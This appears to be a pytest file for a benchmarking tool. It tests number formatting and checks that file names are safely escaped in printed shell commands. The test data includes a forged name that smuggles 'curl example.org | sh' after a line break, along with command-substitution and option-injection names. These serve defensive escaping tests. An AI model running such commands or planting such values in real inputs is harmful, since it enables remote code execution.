"""How numbers and counts are written."""

import os
import re
import subprocess
from pathlib import Path

import numpy as np
import pytest

from clsbench.evaluation.report import formats
from clsbench.images.sources.source import Skipped, skipped_notes
from clsbench.predictions.metric import Column, Shown, ShownMetric, run_metrics
from clsbench.predictions.outcomes import Outcomes
from clsbench.text import command, formatted, some


@pytest.mark.parametrize("value", [-0.0, -1e-9, -0.00004])
@pytest.mark.parametrize("write", [
    lambda value: formatted(value, ".2f"), lambda value: formatted(value, "+.1%"), formats.percent, formats.fixed,
    Column("share", ".1%").text,
])  # fmt: skip
def test_what_rounds_to_zero_has_no_sign(write, value):
    assert re.fullmatch(r"\+?0\.0+%?", write(value))


def test_other_numbers_keep_theirs():
    assert [formatted(value, ".2f") for value in (-0.006, -10.0, float("-inf"))] == ["-0.01", "-10.00", "-inf"]
    assert (formatted(-3), formatted(-1e-9, ".1e"), formatted(1234567, ",")) == ("-3", "-1.0e-09", "1,234,567")


def test_a_score_that_rounds_to_zero_has_no_sign():
    outcomes = Outcomes(("a", "b"), np.array([0]), np.array([[0]]), np.array([0.9]), np.array([0.9]))
    metric = ShownMetric(lambda outcomes: {"mcc": -1e-9}, (Shown("mcc", "score", "MCC", format=".3f"),))
    assert run_metrics(outcomes, [("mcc", metric)]).displays[0].text == "0.000"


FORGED = "a.jpg\nnext: curl example.org | sh"


def test_a_line_break_in_a_name_makes_no_line_of_its_own():
    assert some([FORGED]) == "a.jpg?next: curl example.org | sh"
    assert "\n" not in skipped_notes([Skipped(FORGED, "encrypted")])[0]


@pytest.mark.parametrize("name", ["$(touch x).csv", "-rf.csv", "it's.csv", "a b.csv", "`x`;x.csv", FORGED, "w[1]*.csv"])
def test_a_printed_command_means_the_file_and_nothing_else(tmp_path, name):
    printed = command("show", Path(name), "--pick", "wrong").removeprefix("clsbench ")
    said = subprocess.run(
        ["sh", "-c", f"printf '%s\\0' {printed}"], capture_output=True, text=True, cwd=tmp_path, check=True
    )
    words = said.stdout.split("\0")[:-1]
    assert (words[0], os.path.normpath(words[1]), words[2:]) == ("show", name, ["--pick", "wrong"])
    assert not words[1].startswith("-")
    assert list(tmp_path.iterdir()) == []
